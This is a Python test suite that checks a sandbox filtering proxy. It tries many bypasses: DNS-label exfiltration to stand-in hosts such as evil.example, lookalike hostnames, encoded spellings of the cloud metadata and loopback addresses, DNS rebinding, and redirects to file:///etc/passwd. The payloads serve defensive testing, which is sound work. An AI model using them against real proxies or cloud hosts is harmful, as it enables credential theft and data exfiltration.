"""Ways past the filtering proxy of a box that has one.

`good.example` and everything below `below.example` may be reached; the servers behind them, and
behind hosts that may not, are real ones on the host. The control of each attack is the same client
asking for what is allowed, or the same attack where nothing stands in its way.
"""

import ast
import itertools
import os
import socket
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

OnHost = Callable[..., subprocess.CompletedProcess[str]]


# Around the proxy


def test_a_direct_connection_finds_no_network(guest: Any, outside: Any) -> None:
    attack = guest.python(f"socket.create_connection(('127.0.0.1', {outside.http}), 2)")
    assert "ConnectionRefusedError" in attack.error
    assert (
        "Network is unreachable"
        in guest.python("socket.create_connection(('192.0.2.1', 80), 2)").error
    )
    with socket.create_connection(("127.0.0.1", outside.http), 2):
        guest.is_fine()


@pytest.mark.parametrize("family", ["AF_INET", "AF_INET6"])
def test_a_datagram_leaves_nowhere(guest: Any, family: str) -> None:
    target = {"AF_INET": ("192.0.2.1", 53), "AF_INET6": ("2001:db8::1", 53)}[family]
    code = f"socket.socket(socket.{family}, socket.SOCK_DGRAM).sendto(b'x', {target!r})"
    error = guest.python(code).error
    assert "unreachable" in error or "Cannot assign" in error or "Address family" in error
    inside = "a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a.bind(('127.0.0.1', 0))\n"
    inside += "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', a.getsockname())"
    assert guest.value(inside) == 1


def test_the_hosts_datagram_socket_is_not_on_this_loopback(guest: Any, on_host: OnHost) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(0.2)
        port = server.getsockname()[1]
        send = "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
        send += f".sendto(b'leak', ('127.0.0.1', {port}))"
        guest.python(send)
        with pytest.raises(TimeoutError):
            server.recv(10)
        on_host(send)
        assert server.recv(10) == b"leak"


def test_names_are_not_looked_up_inside(guest: Any, outside: Any) -> None:
    """A name in a DNS question is a way to send something."""
    since = len(outside.lookups)
    attack = guest.python("socket.getaddrinfo('c2VjcmV0.good.example', 80)")
    assert "gaierror" in attack.error
    assert outside.lookups[since:] == []
    assert guest.value("socket.getaddrinfo('localhost', 80) != []") is True


def test_names_that_are_refused_are_never_looked_up_outside(guest: Any, outside: Any) -> None:
    since = len(outside.lookups)
    guest.value("get('http://c2VjcmV0.evil.example/')")
    guest.value("tunnel('c2VjcmV0.evil.example:443')[1]")
    assert outside.lookups[since:] == []
    guest.is_fine()
    assert outside.lookups[since:] == ["good.example"]


@pytest.mark.parametrize("kind", ["AF_VSOCK", "AF_PACKET", "AF_ALG"])
def test_sockets_of_other_families_are_refused(guest: Any, kind: str) -> None:
    kinds = {"AF_PACKET": "SOCK_RAW", "AF_ALG": "SOCK_SEQPACKET"}
    code = f"socket.socket(socket.{kind}, socket.{kinds.get(kind, 'SOCK_STREAM')})"
    assert "Error" in guest.python(code).error
    assert guest.python("socket.socket(socket.AF_UNIX).close()").error is None


def test_raw_sockets_are_refused(guest: Any) -> None:
    attack = guest.python("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)")
    assert "Error" in attack.error
    assert guest.python("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()").error is None


def test_an_abstract_socket_of_the_host_is_not_there(guest: Any, on_host: OnHost) -> None:
    """Abstract names belong to a network namespace, and to no file system."""
    name = f"\0wardian-test-{os.getpid()}"
    connect = f"import socket\nsocket.socket(socket.AF_UNIX).connect({name!r})"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(name)
        server.listen()
        assert "ConnectionRefusedError" in guest.python(connect).error
        assert on_host(connect).returncode == 0
    inside = (
        f"s = socket.socket(socket.AF_UNIX); s.bind({name!r}); s.listen()\n{connect}; s.close()"
    )
    assert guest.python(inside).error is None


def test_a_unix_socket_of_the_host_is_not_there(
    guest: Any, on_host: OnHost, tmp_path: Path
) -> None:
    path = tmp_path / "host.sock"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        server.listen()
        connect = f"import socket\nsocket.socket(socket.AF_UNIX).connect({str(path)!r})"
        assert "FileNotFoundError" in guest.python(connect).error
        assert on_host(connect).returncode == 0


def test_the_kernels_tables_show_only_this_network(
    guest: Any, outside: Any, on_host: OnHost
) -> None:
    table = "{int(line.split()[1].split(':')[1], 16) for line in [*open('/proc/net/tcp')][1:]}"
    inside = guest.value(table)
    assert outside.http not in inside
    assert 3128 in inside
    assert outside.http in ast.literal_eval(on_host(f"print({table})").stdout)


def test_the_listening_socket_cannot_be_had_from_inside(guest: Any) -> None:
    """It is the host's: no process inside has it, and nobody else may listen there."""
    look = (
        "import os\nheld = set()\n"
        "for pid in filter(str.isdecimal, os.listdir('/proc')):\n"
        "    place = f'/proc/{pid}/fd'\n"
        "    try: held |= {os.readlink(f'{place}/{n}') for n in os.listdir(place)}\n"
        "    except OSError: pass\n"
        "inodes = {f'socket:[{l.split()[9]}]' for l in [*open('/proc/net/tcp')][1:]\n"
        "          if l.split()[3] == '0A'}\n"
        "own = socket.create_server(('127.0.0.1', 0))\n"
        "mine = f'socket:[{os.fstat(own.fileno()).st_ino}]'\n"
        "(bool(held & inodes), len(inodes) > 0)"
    )
    assert guest.value(look) == (False, True)
    for option in ("SO_REUSEADDR", "SO_REUSEPORT"):
        bind = "s = socket.socket()\n"
        bind += f"s.setsockopt(socket.SOL_SOCKET, socket.{option}, 1)\ns.bind(('127.0.0.1', PLACE))"
        bind += "\ns.listen()\ns.close()"
        assert "Address already in use" in guest.python(bind.replace("PLACE", "3128")).error
        assert guest.python(bind.replace("PLACE", "3129")).error is None
    guest.is_fine()


def test_the_proxy_outlives_everything_that_is_killed_inside(guest: Any) -> None:
    for _ in range(10):
        guest.shell("kill -9 -1")
        prepared = guest.python(guest.prelude)
        assert (prepared.ending, prepared.error) == ("exited", None)
    guest.is_fine()


def test_a_descriptor_sent_to_the_proxy_is_not_taken(guest: Any) -> None:
    """A TCP socket carries none; sent over a unix socket inside, it stays inside."""
    make = "import os\nmine = os.memfd_create('smuggled')\n"
    guest.python(f"{make}s = connect(); socket.send_fds(s, [b'GET '], [mine])")
    guest.value("get(f'http://{GOOD}/')")
    held = {str(path.readlink()) for path in Path("/proc/self/fd").iterdir() if path.is_symlink()}
    assert not any("smuggled" in name for name in held)
    inside = (
        "a, b = socket.socketpair()\nsocket.send_fds(a, [b'x'], [mine])\n"
        "os.readlink(f'/proc/self/fd/{socket.recv_fds(b, 1, 1)[1][0]}')"
    )
    assert "smuggled" in guest.value(inside)
    assert guest.python("s.close()").error is None


# Hosts that look like allowed ones


@pytest.mark.parametrize(
    "host",
    [
        "evil-good.example",
        "good.example.evil.net",
        "sub.good.example",
        "goodXexample",
        "below.example",
        "evil-below.example",
        "below.example.evil.net",
        "good.example%2eevil.net",
        "good%2eexample",
        "good.example%00.evil.net",
        "good.example\\x00.evil.net",
        "good.example@evil.net",
        "user:good.example@evil.net",
        "evil.net#@good.example",
        "evil.net?@good.example",
        "evil.net\\\\@good.example",
        "good.example evil.net",
        "good.example\\tevil.net",
        "good.example..",
        ".good.example",
        "g\\xf6od.example",
        "xn--good.example",
        "good.example,evil.net",
        "[good.example]",
    ],
)
def test_a_name_that_looks_allowed_is_refused(guest: Any, outside: Any, host: str) -> None:
    since, lookups = len(outside.seen), len(outside.lookups)
    attack = f"get(f'http://{host}:{{PORT}}/attack')[9:12]"
    assert guest.value(attack) in (b"403", b"400")
    through = f"say(f'CONNECT {host}:{{TLS}} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode('latin-1'))"
    assert guest.value(f"{through}[9:12]") in (b"403", b"400")
    assert outside.seen[since:] == []
    assert outside.lookups[lookups:] == []
    for fine in ("good.example", "GOOD.Example.", "sub.below.example"):
        assert guest.value(f"get(f'http://{fine}:{{PORT}}/')[9:12]") == b"200"


# Addresses

METADATA = [
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "0xA9.0xFE.0xA9.0xFE",
    "0251.0376.0251.0376",
    "169.254.43518",
    "169.16689662",
    "169.254.169.254.",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "[0:0:0:0:0:ffff:a9fe:a9fe]",
    "[64:ff9b::a9fe:a9fe]",
    "[fd00:ec2::254]",
    "[fe80::1%25lo]",
    "%31%36%39.254.169.254",
    "\\uff11\\uff16\\uff19.254.169.254",
    "metadata.google.internal",
]


@pytest.mark.parametrize("address", METADATA)
def test_metadata_is_refused_in_every_spelling(guest: Any, outside: Any, address: str) -> None:
    plain = f"'GET http://{address}/latest HTTP/1.1\\r\\nHost: {address}\\r\\n\\r\\n'"
    secure = f"'CONNECT {address}:443 HTTP/1.1\\r\\nHost: {address}:443\\r\\n\\r\\n'"
    for request in (plain, secure):
        assert guest.value(f"say({request}.encode())[9:12]") in (b"403", b"400")
    assert guest.value(f"get('http://127.0.0.1:{outside.http}/')[9:12]") == b"200"


@pytest.mark.parametrize(
    "address",
    ["127.0.0.2", "127.1", "localhost", "0.0.0.0", "0", "[::1]", "[::]", "[::ffff:127.0.0.1]",
     "2130706433", "0x7f.1", "[::127.0.0.1]", "[2002:7f00:1::]"],
)  # fmt: skip
def test_the_hosts_loopback_is_refused_but_for_what_is_listed(
    guest: Any, outside: Any, address: str
) -> None:
    since = len(outside.seen)
    code = "get(f'http://{}:{{PORT}}/attack')[9:12]"
    assert guest.value(code.format(address)) in (b"403", b"400")
    assert outside.seen[since:] == []
    assert guest.value(code.format("127.0.0.1")) == b"200"


@pytest.mark.parametrize(
    "answer",
    [
        *("127.0.0.9", "10.0.0.1", "192.168.1.1", "169.254.169.254", "::1", "::ffff:127.0.0.1"),
        *("fe80::1", "64:ff9b::7f00:1", "0.0.0.0", "224.0.0.1", "100.64.0.1", "fd00::1"),
        "not an address",
    ],
)
def test_a_name_that_leads_to_a_private_address_is_not_dialled(
    guest: Any, outside: Any, answer: str
) -> None:
    outside.names["rebound.below.example"] = [answer]
    since = len(guest.events)
    code = "get(f'http://rebound.below.example:{PORT}/attack')"
    assert guest.value(code)[9:12] in (b"403", b"502")
    assert {event.outcome for event in guest.events[since:] if event.host[0] == "r"} <= {
        "denied",
        "failed",
    }
    outside.names["rebound.below.example"] = ["127.0.0.1"]
    assert guest.value(code)[9:12] == b"200"


def test_a_name_is_looked_up_once_and_what_was_checked_is_dialled(guest: Any, outside: Any) -> None:
    """A second question would be answered with a private address."""
    answers = itertools.chain([["127.0.0.1"]], itertools.repeat(["10.0.0.1"]))

    class Rebinding(dict[str, Any]):
        def __contains__(self, name: object) -> bool:
            return True

        def __getitem__(self, name: str) -> Any:
            return next(answers)

    kept, since = outside.names, len(outside.lookups)
    outside.names = Rebinding()
    try:
        code = "get(f'http://rebinding.below.example:{PORT}/')[9:12]"
        assert guest.value(code) == b"200"
        assert outside.lookups[since:] == ["rebinding.below.example"]
        assert guest.value(code) == b"403"
    finally:
        outside.names = kept


def test_only_the_permitted_ones_of_several_addresses_are_dialled(guest: Any, outside: Any) -> None:
    outside.names["mixed.below.example"] = ["127.0.0.9", "10.0.0.1", "127.0.0.1"]
    since = len(guest.events)
    assert guest.value("get(f'http://mixed.below.example:{PORT}/')[9:12]") == b"200"
    assert [event.address for event in guest.told("allowed", since)] == ["127.0.0.1"]


@pytest.mark.parametrize(
    "target",
    ["http://127.0.0.9:{0}/x", "http://169.254.169.254/latest", "http://evil.example/",
     "http://good.example:22/", "file:///etc/passwd", "http://user@127.0.0.9:{0}/"],
)  # fmt: skip
def test_a_redirect_is_a_new_request_and_decided_anew(
    guest: Any, outside: Any, target: str
) -> None:
    follow = (
        "import urllib.request, urllib.parse\nto = urllib.parse.quote({!r}, safe='')\n"
        "urllib.request.urlopen(f'http://{{GOOD}}/redirect?to={{to}}').read()"
    )
    since = len(outside.seen)
    attack = guest.python(follow.format(target.format(outside.http)))
    assert "HTTPError" in attack.error or "URLError" in attack.error
    assert [path.partition("?")[0] for _, path, _ in outside.seen[since:]] == ["/redirect"]
    fine = f"http://sub.below.example:{outside.http}/landed"
    assert guest.value(follow.format(fine)) == b"hello /landed"


# Ports and protocols


@pytest.mark.parametrize("port", [22, 25, 53, 80, 443, 3128, 6379])
def test_ports_that_are_not_listed_are_refused(guest: Any, port: int) -> None:
    for code in ("tunnel('good.example:{}')[1][9:12]", "get('http://good.example:{}/')[9:12]"):
        assert guest.value(code.format(port)) == b"403"
    assert guest.value("tunnel(SECURE)[1][9:12]") == b"200"


def test_the_proxy_is_not_reached_through_itself(guest: Any) -> None:
    for place in ("127.0.0.1:3128", "localhost:3128", "good.example:3128"):
        assert guest.value(f"tunnel({place!r})[1][9:12]") == b"403"
    guest.is_fine()


@pytest.mark.parametrize(
    "greeting",
    [b"\x05\x01\x00", b"\x05\x02\x00\x02", b"\x04\x01\x00\x50\x7f\x00\x00\x01user\x00"],
)
def test_socks_is_not_spoken(guest: Any, greeting: bytes) -> None:
    answer = guest.value(f"say({greeting!r})")
    assert answer.startswith(b"HTTP/1.1 400 This is an HTTP proxy; it does not speak SOCKS.")
    guest.is_fine()


@pytest.mark.parametrize(
    "data",
    [
        "b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'",
        "hello('good.example')",
        "b'GET /etc/passwd\\r\\n\\r\\n'",
        "b'OPTIONS * HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n'",
        "f'GET http://{GOOD}/ HTTP/3\\r\\nHost: {GOOD}\\r\\n\\r\\n'.encode()",
        "f'GET ftp://{GOOD}/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n'.encode()",
        "f'GET gopher://{GOOD}/_x HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n'.encode()",
        "f'GET / HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n'.encode()",
        "b'\\r\\n\\r\\n'",
        "b'\\0' * 100",
    ],
)
def test_other_protocols_are_refused(guest: Any, outside: Any, data: str) -> None:
    since = len(outside.seen)
    assert guest.value(f"say({data})[9:10]") in (b"4", b"5")
    assert outside.seen[since:] == []
    guest.is_fine()
